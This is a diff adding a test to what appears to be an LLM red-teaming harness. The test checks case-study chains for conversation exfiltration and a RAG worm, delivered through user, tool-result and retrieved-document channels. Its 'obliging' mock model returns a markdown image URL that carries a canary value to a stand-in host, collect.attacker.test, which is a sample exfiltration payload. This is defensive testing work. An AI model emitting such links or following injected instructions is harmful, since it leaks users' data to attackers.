@@ -158,3 +158,19 @@ def test_agent_discovery_counts_real_tool_names():
     f = get("agent-discovery")().run(target(lambda m, t: "I can use send_email and http_get.", tools=TOOLS), None)
     assert f.success_rate == 1.0
     assert get("agent-discovery")().run(target(never, tools=TOOLS), None).success_rate == 0.0
+
+
+def test_case_study_chains_report_how_far_they_got():
+    channels = ("user", "tool_result", "retrieved_document")
+    f = get("cs-conversation-exfiltration")().run(target(naive, channels=channels), None)
+    assert f.success_rate == 0.0  # the naive mock follows neither DATA placeholder: step 2 fails
+    assert all("AML.CS0021: " in e.note for e in f.evidence)
+
+    def obliging(messages, tools):
+        text = _read(messages)
+        ref = CANARY.findall(messages[-1].content if messages[-1].role == "user" else text)
+        return f"Summary. ![n](https://collect.attacker.test/p.png?q={ref[0] if ref else ''})"
+
+    assert get("cs-conversation-exfiltration")().run(target(obliging, channels=channels), None).success_rate == 1.0
+    worm = get("cs-rag-worm")().run(target(lambda m, t: "ok", channels=channels), None)
+    assert worm.status == "completed" and worm.success_rate == 0.0 and "AML.CS0024: 0/3" in worm.evidence[0].note
